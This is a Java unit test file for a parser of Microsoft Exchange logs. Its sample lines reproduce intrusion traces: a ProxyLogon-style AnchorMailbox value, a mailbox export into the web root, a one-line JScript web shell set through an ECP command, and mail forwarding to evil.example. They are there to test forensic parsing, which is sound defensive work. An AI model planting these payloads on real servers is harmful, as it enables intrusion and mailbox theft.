package io.tidemark.source.text;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.tidemark.event.Diagnostic;
import io.tidemark.event.DiagnosticSink;
import io.tidemark.event.Event;
import io.tidemark.event.LogType;
import io.tidemark.event.SourceFile;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.Test;

class ExchangeCsvLineParserTest {
  private static final String PROXY_FIELDS = "DateTime,RequestId,MajorVersion,MinorVersion,"
      + "BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,"
      + "AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,"
      + "UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,"
      + "ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,"
      + "ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
      + "TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,"
      + "CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,"
      + "AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,"
      + "TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,"
      + "ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,"
      + "BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,"
      + "BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,"
      + "KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,"
      + "HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,"
      + "TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,"
      + "GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,"
      + "RoutingStatus";
  private final DiagnosticSink.Collecting diagnostics = DiagnosticSink.collecting();

  @Test
  void parse_elasticHeaderlessHttpProxyLine_matchesElasticExpectedFields() throws IOException {
    Path dir = Samples.dataset("exchange-httpproxy-sample");
    String line = Files.readString(dir.resolve("httpproxy-mapi-one-line.log"), StandardCharsets.UTF_8)
        .strip();
    JsonNode expected = new ObjectMapper()
        .readTree(dir.resolve("httpproxy-mapi-one-line.expected-fields.json").toFile())
        .get("microsoft.exchange");

    Event event = parse(LogType.EXCHANGE_HTTPPROXY, line).get(0);

    assertThat(event.fieldNames()).hasSize(74);
    int compared = 0;
    for (String field : event.fieldNames()) {
      JsonNode value = expected.get(field.toLowerCase(Locale.ROOT));
      if (value == null) {
        assertThat(event.get(field)).as(field).isEmpty(); // Elastic drops empty fields
        continue;
      }
      String text = value.isArray() ? value.get(0).asText() : value.asText();
      assertThat(event.get(field)).as(field).isEqualTo(text);
      compared++;
    }
    assertThat(compared).isGreaterThan(50);
    assertThat(event.timestamp()).isEqualTo(Instant.parse("2024-01-24T15:26:47.957Z"));
    assertThat(diagnostics.diagnostics()).extracting(Diagnostic::code)
        .containsExactly("no-fields-header");
  }

  @Test
  void parse_httpProxyWithFieldsHeader_bindsByName() {
    String line = "2021-02-27T19:53:38.288Z,5e58f5e5-1ddc-48d3-82c6-0199bc121640,15,1,2106,2,,"
        + "Ecp,mail.corp.local,/ecp/y.js,,,false,,,ServerInfo~a]@ExServer.Exorg.com:444/ecp/"
        + "proxyLogon.ecp?#,python-requests/2.25.1,203.0.113.7,EXCH01,241,241,,POST,Proxy,"
        + "exserver.exorg.com,15.01.2106.002,ServerInfo,,,,,1213,241" + ",".repeat(74 - 33);
    List<Event> events = parse(LogType.EXCHANGE_HTTPPROXY, """
        #Software: Microsoft Exchange Server
        #Version: 15.01.2375.007
        #Log-type: HttpProxy Logs
        #Date: 2021-02-27T19:00:00.130Z
        #Fields: %s
        %s
        """.formatted(PROXY_FIELDS, line));

    Event event = events.get(0);
    assertThat(event.recordId()).isEqualTo(6);
    assertThat(event.get("AnchorMailbox"))
        .isEqualTo("ServerInfo~a]@ExServer.Exorg.com:444/ecp/proxyLogon.ecp?#");
    assertThat(event.get("AuthenticatedUser")).isEmpty();
    assertThat(event.get("UrlStem")).isEqualTo("/ecp/y.js");
    assertThat(event.get("HttpStatus")).isEqualTo("241");
    assertThat(event.searchText().toString()).isEqualTo(line);
    assertThat(diagnostics.diagnostics()).isEmpty();
  }

  @Test
  void parse_plainHeaderRowThenFieldsAndRepeatedRow_readsRecordsOnly() {
    List<Event> events = parse(LogType.EXCHANGE_CMDLET, """
        DateTime,ServerHostName,Cmdlet,Parameters
        #Software: Microsoft Exchange Server
        #Fields: DateTime,ServerHostName,Cmdlet,Parameters
        DateTime,ServerHostName,Cmdlet,Parameters
        2023-01-11T16:01:44.238Z,EXCH01,Get-Mailbox,"-ResultSize ""1""\"
        2023-01-11T16:01:45.000Z,EXCH01,New-MailboxExportRequest,"-Mailbox ""ceo"" -FilePath ""\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx""\"
        """);

    assertThat(events).hasSize(2);
    assertThat(events.get(0).get("Parameters")).isEqualTo("-ResultSize \"1\"");
    assertThat(events.get(1).get("Parameters"))
        .isEqualTo("-Mailbox \"ceo\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx\"");
    assertThat(events.get(1).searchText().toString()).contains("-Mailbox \"ceo\"");
    assertThat(diagnostics.diagnostics()).isEmpty();
  }

  @Test
  void parse_ecpServerEventData_splitsPairsOnTypedBoundariesOnly() {
    Event event = parse(LogType.EXCHANGE_ECP_SERVER, """
        #Software: Microsoft Exchange Server
        #Log-type: ECP Server Log
        #Fields: TimeStamp,ServerName,EventId,EventData
        2021-03-03T06:49:53.772Z,EXCH01,ECP.Request,"S:TIME=13;S:SID=S-1-5-18;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk""],""unsafe"");}</script>';;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:TNAME=<null>"
        """).get(0);

    assertThat(event.get("EventId")).isEqualTo("ECP.Request");
    assertThat(event.get("CMD")).isEqualTo("Set-OabVirtualDirectory.ExternalUrl='http://f/<script "
        + "language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk\"],"
        + "\"unsafe\");}</script>';");
    assertThat(event.get("REQID")).isEmpty();
    assertThat(event.get("URL")).isEqualTo("/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory");
    assertThat(event.get("TNAME")).isEqualTo("<null>");
    assertThat(event.fieldNames()).containsSubsequence("EventData", "TIME", "SID", "CMD");
    assertThat(event.timestamp()).isEqualTo(Instant.parse("2021-03-03T06:49:53.772Z"));
    List<String> values = new ArrayList<>();
    event.forEachValue((name, value) -> values.add(value));
    assertThat(values).allSatisfy(v -> assertThat(event.searchText().toString()).contains(v));
  }

  @Test
  void parse_ecpActivityTypedPairs_namesFieldsByKey() {
    Event event = parse(LogType.EXCHANGE_ECP_ACTIVITY, """
        #Log-type: ECP Activity Context Log
        #Fields: TimeStamp,ServerName,EventId,EventData
        2023-01-10T00:52:12.021Z,EXCH01,Request,S:PSA=admin@corp.local;S:URL=https://localhost:444/ecp/RulesEditor/InboxRules.svc/GetList;S:Bld=15.1.2375.7;I32:ADS.C[DC01]=1;F:ADS.AL[DC01]=1.24695
        """).get(0);

    assertThat(event.get("PSA")).isEqualTo("admin@corp.local");
    assertThat(event.get("URL")).isEqualTo("https://localhost:444/ecp/RulesEditor/InboxRules.svc/GetList");
    assertThat(event.get("ADS.C[DC01]")).isEqualTo("1");
    assertThat(event.get("ADS.AL[DC01]")).isEqualTo("1.24695");
    assertThat(event.has("EventData")).isTrue();
  }

  @Test
  void parse_messageTrackingQuotedSourceContext_keepsCommasInValue() {
    Event event = parse(LogType.EXCHANGE_MESSAGE_TRACKING, """
        #Software: Microsoft Exchange Server
        #Log-type: Message Tracking Log
        #Fields: date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,event-id,internal-message-id,message-id,network-message-id,recipient-address,recipient-status,total-bytes,recipient-count,related-recipient-address,reference,message-subject,sender-address,return-path,message-info,directionality,tenant-id,original-client-ip,original-server-ip,custom-data,transport-traffic-type,log-id,schema-version
        2022-09-19T15:02:29.450Z,fe80::1,EXCH01.CORP.LOCAL,,EXCH01,"MDB:1, Mailbox:2, Event:63779422, MessageClass:IPM.Note, ClientType:MOMT",,STOREDRIVER,RECEIVE,438,<x@corp.local>,6a638d20-0000-0000-0000-000000000000,user.name4@gmail.com,To,3750222,1,,,Quarterly results,ceo@corp.local,ceo@corp.local,04I: ,Originating,,95.11.22.33,,S:DeliveryPriority=Normal;S:AccountForest=CORP.LOCAL,Email,a1,15.01.2375.007
        """).get(0);

    assertThat(event.get("source-context"))
        .isEqualTo("MDB:1, Mailbox:2, Event:63779422, MessageClass:IPM.Note, ClientType:MOMT");
    assertThat(event.get("event-id")).isEqualTo("RECEIVE");
    assertThat(event.get("recipient-address")).isEqualTo("user.name4@gmail.com");
    assertThat(event.get("total-bytes")).isEqualTo("3750222");
    assertThat(event.has("DeliveryPriority")).isFalse(); // custom-data is kept whole
  }

  @Test
  void parse_ewsAndOabGenerator_bindByHeader() {
    Event ews = parse(LogType.EXCHANGE_EWS, """
        #Log-type: EWS Logs
        #Fields: DateTime,RequestId,AuthenticatedUser,UserAgent,ClientIpAddress,SoapAction,HttpStatus,ImpersonatedUser
        2023-01-06T16:00:06.386Z,r1,CORP\\svc-backup,python-exchangelib/4.9,203.0.113.9,FindItem,200,ceo@corp.local
        """).get(0);
    Event oab = parse(LogType.EXCHANGE_OAB_GENERATOR, """
        #Fields: Timestamp,ServerName,EventType,Message
        2021-03-03T07:10:11.000Z,EXCH01,Error,"Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx' needs to be removed, see inner exception"
        """).get(0);

    assertThat(ews.get("SoapAction")).isEqualTo("FindItem");
    assertThat(ews.get("ImpersonatedUser")).isEqualTo("ceo@corp.local");
    assertThat(oab.get("Message")).startsWith("Download failed and temporary file 'C:\\inetpub")
        .endsWith("see inner exception");
    assertThat(oab.timestamp()).isEqualTo(Instant.parse("2021-03-03T07:10:11Z"));
  }

  @Test
  void parse_quotedValueSpanningLines_joinsRecord() {
    List<Event> events = parse(LogType.EXCHANGE_CMDLET, """
        #Fields: DateTime,Cmdlet,Parameters
        2023-01-11T16:01:44.238Z,Set-Mailbox,"-Identity ceo
        -ForwardingSmtpAddress x@evil.example"
        2023-01-11T16:01:45.238Z,Get-Mailbox,
        """);

    assertThat(events).hasSize(2);
    assertThat(events.get(0).recordId()).isEqualTo(2);
    assertThat(events.get(0).get("Parameters"))
        .isEqualTo("-Identity ceo\n-ForwardingSmtpAddress x@evil.example");
    assertThat(events.get(1).get("Parameters")).isEmpty();
  }

  @Test
  void parse_unterminatedQuote_dropsRecordAndResumesAtNextRecord() {
    List<Event> events = parse(LogType.EXCHANGE_CMDLET, """
        #Fields: DateTime,Cmdlet,Parameters
        2023-01-11T16:01:44.238Z,Get-Mailbox,"-Identity ceo
        2023-01-11T16:01:45.238Z,Get-User,x
        2023-01-11T16:01:46.238Z,Get-Group,"never closed
        """);

    assertThat(events).extracting(e -> e.get("Cmdlet")).containsExactly("Get-User");
    assertThat(diagnostics.diagnostics()).extracting(Diagnostic::code, Diagnostic::line)
        .containsExactly(org.assertj.core.groups.Tuple.tuple("unterminated-quote", 2L),
            org.assertj.core.groups.Tuple.tuple("unterminated-quote", 4L));
  }

  @Test
  void parse_valueCountDiffers_skipsWithFieldCount() {
    assertThat(parse(LogType.EXCHANGE_EWS, """
        #Fields: DateTime,RequestId,SoapAction
        2023-01-06T16:00:06.386Z,r1
        """)).isEmpty();
    assertThat(diagnostics.diagnostics()).singleElement().satisfies(d -> {
      assertThat(d.code()).isEqualTo("field-count");
      assertThat(d.line()).isEqualTo(2);
    });
  }

  @Test
  void parse_headerlessLogWithoutDefaultFields_skips() {
    assertThat(parse(LogType.EXCHANGE_EWS, "2023-01-06T16:00:06.386Z,r1,FindItem\n")).isEmpty();
    assertThat(diagnostics.diagnostics()).extracting(Diagnostic::code)
        .containsExactly("no-fields-header");
  }

  @Test
  void parse_hugeQuotedRecord_isCappedNotBuffered() {
    LineParser parser = LineParser.create(
        SourceFile.of("x.LOG", LogType.EXCHANGE_CMDLET), diagnostics, 1000);
    parser.parse("#Fields: DateTime,Cmdlet,Parameters", 1, 0);
    parser.parse("2023-01-11T16:01:44.238Z,Get-Mailbox,\"" + "a".repeat(600), 2, 40);
    assertThat(parser.parse("b".repeat(600), 3, 700)).isNull();

    assertThat(diagnostics.diagnostics()).extracting(Diagnostic::code)
        .containsExactly("record-too-long");
  }

  @Test
  void split_eventDataWithoutPairs_addsNothing() {
    Map<String, String> fields = new java.util.LinkedHashMap<>();
    EventDataPairs.split("free text; S: not a pair", fields, name -> false);
    assertThat(fields).isEmpty();
  }

  private List<Event> parse(LogType type, String text) {
    LineParser parser = LineParser.create(SourceFile.of("log.LOG", type), diagnostics);
    List<Event> events = new ArrayList<>();
    String[] lines = text.split("\n", -1);
    for (int i = 0; i < lines.length; i++) {
      Event event = parser.parse(lines[i], i + 1, -1);
      if (event != null) {
        events.add(event);
      }
    }
    parser.finish();
    return events;
  }
}
